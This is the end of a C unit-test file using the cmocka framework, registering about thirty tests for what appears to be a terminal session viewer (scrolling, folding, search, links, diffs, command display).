	end(&f);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(all_kinds_of_items),
		cmocka_unit_test(ascii_only),
		cmocka_unit_test(moving_output),
		cmocka_unit_test(content_is_indented),
		cmocka_unit_test(following_shows_the_end),
		cmocka_unit_test(what_is_read_does_not_move),
		cmocka_unit_test(scrolling_to_the_end_follows),
		cmocka_unit_test(resizing_keeps_the_place),
		cmocka_unit_test(what_is_not_seen_is_not_laid_out),
		cmocka_unit_test(folding),
		cmocka_unit_test(a_folded_diff_shows_its_change),
		cmocka_unit_test(searching),
		cmocka_unit_test(matches_are_marked),
		cmocka_unit_test(matches_across_wraps),
		cmocka_unit_test(choosing_rows),
		cmocka_unit_test(choosing_in_a_long_session),
		cmocka_unit_test(links_have_numbers),
		cmocka_unit_test(going_from_stop_to_stop),
		cmocka_unit_test(a_session_that_begins_anew),
		cmocka_unit_test(odd_sizes),
		cmocka_unit_test(random_walk),
		cmocka_unit_test(commands_are_shown_exactly),
		cmocka_unit_test(no_byte_of_a_command_is_lost),
		cmocka_unit_test(what_is_hidden_is_counted),
		cmocka_unit_test(a_focused_question_is_shown_in_full),
		cmocka_unit_test(who_only_looks_is_not_asked),
		cmocka_unit_test(a_diff_is_judged_too),
		cmocka_unit_test(a_picture_is_not_wrapped),
		cmocka_unit_test(a_terminal_by_itself),
		cmocka_unit_test(what_is_not_told_is_said_to_be),
		cmocka_unit_test(an_answer_without_its_question),
		cmocka_unit_test(a_question_is_replaced),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
